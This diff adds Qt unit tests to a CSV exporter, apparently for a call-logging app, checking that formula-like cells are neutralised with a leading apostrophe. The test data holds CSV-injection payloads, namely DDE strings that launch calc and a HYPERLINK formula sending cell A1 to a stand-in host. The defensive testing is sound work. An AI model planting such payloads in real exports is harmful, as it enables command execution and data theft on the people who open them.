@@ -66,6 +66,9 @@ private slots:
     void fieldRoundTrips();
     void leadNotesRoundTrip();
     void callLogHasEveryParentCall();
+    void formulaCellsAreNeutralised_data();
+    void formulaCellsAreNeutralised();
+    void exportedCallerIdCannotRunAFormula();
 };
 
 void TestCsvExport::fieldRoundTrips_data()
@@ -151,6 +154,83 @@ void TestCsvExport::callLogHasEveryParentCall()
     QCOMPARE(records.size(), 3);
     QCOMPARE(records.at(1).last(), QStringLiteral("Missed call: the line was busy. Texted back"));
     QCOMPARE(records.at(2).at(1), QStringLiteral("1970-01-01 00:01:20"));
+}
+
+void TestCsvExport::formulaCellsAreNeutralised_data()
+{
+    // OWASP's CSV injection rule: a cell that begins with = + - @, a tab or a carriage return is
+    // read as a formula by Excel, LibreOffice and Google Sheets; a leading apostrophe makes it text.
+    QTest::addColumn<QString>("field");
+    QTest::addColumn<QString>("written");
+    const auto same = [](const char* s) -> QString {
+        return QString::fromUtf8(s);
+    };
+    const auto neutral = [](const char* s) -> QString {
+        return QLatin1Char('\'') + QString::fromUtf8(s);
+    };
+    QTest::newRow("HYPERLINK") << same("=HYPERLINK(\"https://x.example/?\"&A1,\"Confirm\")")
+                               << neutral("=HYPERLINK(\"https://x.example/?\"&A1,\"Confirm\")");
+    QTest::newRow("DDE with plus") << same("+cmd|' /C calc'!A0") << neutral("+cmd|' /C calc'!A0");
+    QTest::newRow("at sign") << same("@SUM(1+9)*cmd|' /C calc'!A0") << neutral("@SUM(1+9)*cmd|' /C calc'!A0");
+    QTest::newRow("minus formula") << same("-2+3+cmd|' /C calc'!A0") << neutral("-2+3+cmd|' /C calc'!A0");
+    QTest::newRow("tab first") << same("\t=1+1") << neutral("\t=1+1");
+    QTest::newRow("carriage return first") << same("\r=1+1") << neutral("\r=1+1");
+    QTest::newRow("equals only") << same("=") << neutral("=");
+    // E.164 numbers begin with +: bare, Excel turns them into 1.55512E+10; with the apostrophe it
+    // keeps every digit and the plus as text (see CsvWriter.h).
+    QTest::newRow("E.164 number") << same("+15551234567") << neutral("+15551234567");
+    // Our own negative amounts stay numbers a spreadsheet can add up.
+    QTest::newRow("negative amount") << same("-12.50") << same("-12.50");
+    QTest::newRow("negative whole amount") << same("-12") << same("-12");
+    QTest::newRow("minus and a line break") << same("-12\n=1+1") << neutral("-12\n=1+1");
+    QTest::newRow("minus and a dot only") << same("-12.") << neutral("-12.");
+    QTest::newRow("formula sign inside") << same("a=b+c") << same("a=b+c");
+    QTest::newRow("plain") << same("Leaking tap") << same("Leaking tap");
+    QTest::newRow("empty") << QString() << QString();
+}
+
+void TestCsvExport::formulaCellsAreNeutralised()
+{
+    QFETCH(QString, field);
+    QFETCH(QString, written);
+    QBuffer buffer;
+    buffer.open(QIODevice::WriteOnly);
+    CsvWriter csv(buffer);
+    QVERIFY(csv.writeRecord({QStringLiteral("before"), field, QStringLiteral("after")}));
+    const QList<QStringList> records = parseCsv(decodedWithoutBom(buffer.data()));
+    QCOMPARE(records.size(), 1);
+    QCOMPARE(records.at(0), (QStringList{QStringLiteral("before"), written, QStringLiteral("after")}));
+}
+
+void TestCsvExport::exportedCallerIdCannotRunAFormula()
+{
+    // The From column comes straight from the provider, the name from whoever typed it.
+    TempDatabase t;
+    QVERIFY(t.ok());
+    QVERIFY(t.db().exec(
+        QStringLiteral("INSERT INTO calls (provider_call_id, direction, from_number, to_number, status, "
+                       "started_at, ended_at, first_seen_at, updated_at) VALUES ('CA1', 'inbound', "
+                       "'=HYPERLINK(\"https://x.example\",\"Call back\")', '+12125550100', 'busy', 0, "
+                       "20000, 0, 0)")));
+    QBuffer calls;
+    calls.open(QIODevice::WriteOnly);
+    QVERIFY(CsvExport::calls(t.db(), calls, QTimeZone::utc()));
+    QList<QStringList> records = parseCsv(decodedWithoutBom(calls.data()));
+    QCOMPARE(records.size(), 2);
+    QCOMPARE(records.at(1).at(records.at(0).indexOf(QStringLiteral("From"))),
+             QStringLiteral("'=HYPERLINK(\"https://x.example\",\"Call back\")"));
+    QCOMPARE(records.at(1).at(records.at(0).indexOf(QStringLiteral("To"))), QStringLiteral("'+12125550100"));
+
+    QVERIFY(t.db().exec(QStringLiteral("INSERT INTO leads (e164, display_name, status, last_activity_at, "
+                                       "created_at, updated_at) VALUES ('+12125550001', "
+                                       "'@SUM(1+9)*cmd|'' /C calc''!A0', 'new', 0, 0, 0)")));
+    QBuffer leads;
+    leads.open(QIODevice::WriteOnly);
+    QVERIFY(CsvExport::leads(t.db(), leads, QTimeZone::utc()));
+    records = parseCsv(decodedWithoutBom(leads.data()));
+    QCOMPARE(records.size(), 2);
+    QCOMPARE(records.at(1).at(records.at(0).indexOf(QStringLiteral("Name"))),
+             QStringLiteral("'@SUM(1+9)*cmd|' /C calc'!A0"));
 }
 
 QTEST_GUILESS_MAIN(TestCsvExport)
